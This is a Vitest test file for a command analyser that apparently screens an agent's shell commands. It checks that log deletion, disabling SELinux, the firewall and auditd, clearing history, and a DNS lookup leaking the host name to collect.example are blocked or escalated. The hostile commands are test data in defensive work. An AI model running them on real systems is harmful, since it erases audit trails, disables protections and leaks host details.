import { describe, expect, it } from 'vitest';
import { analyseCommand } from './analyse-command.ts';

const PLACE = { workingFolder: '/home/user/project', home: '/home/user', hosts: [] };

function worst(command: string, request = ''): string {
  return analyseCommand(command, PLACE, { preset: 'default', request }).findings[0]?.decision ?? 'allow';
}

describe('what nobody needs for work in a folder is blocked, and asked about where the user asks for it [H2]', () => {
  it.each([
    ['rm /var/log/auth.log', 'Delete the old auth log.'],
    ['> /var/log/auth.log', 'Clear the auth log.'],
    ["find /usr/local -name '*.log' -delete", 'Remove old logs.'],
    ['rm -rf ~/holidays', 'Delete the folder holidays.'],
    ['setenforce 0', 'Turn SELinux off.'],
    ['sudo ufw disable', 'Disable the firewall.'],
    ['iptables -F', 'Flush the firewall rules.'],
    ['history -c', 'Clear the history.'],
    ['systemctl stop auditd', 'Stop auditd.'],
    ['service rsyslog stop', 'Stop the log daemon.'],
  ])('%s', (command, request) => {
    expect(worst(command)).toBe('block');
    expect(worst(command, 'Summarise the readme.')).toBe('block');
    expect(worst(command, request)).toBe('escalate');
  });

  it.each([
    ['mv /var/log/app.log /var/log/app.log.1', 'escalate'],
    ['journalctl --vacuum-time=2weeks', 'escalate'],
    ['systemctl stop nginx', 'escalate'],
    ['systemctl restart rsyslog', 'escalate'],
    ['ufw allow 22', 'escalate'],
    ['rm build.log', 'allow'],
    ['rm -rf dist', 'allow'],
    ['nslookup `hostname`', 'allow'],
  ])('%s stays %s', (command, decision) => {
    expect(worst(command)).toBe(decision);
  });

  it('services that nobody can name beforehand are not stopped', () => {
    expect(worst('systemctl disable --now $(cat units)', 'Disable the listed units.')).toBe('block');
  });

  it('its own name in a name that another answers for leaves', () => {
    expect(worst('nslookup $(hostname).collect.example')).toBe('block');
  });
});
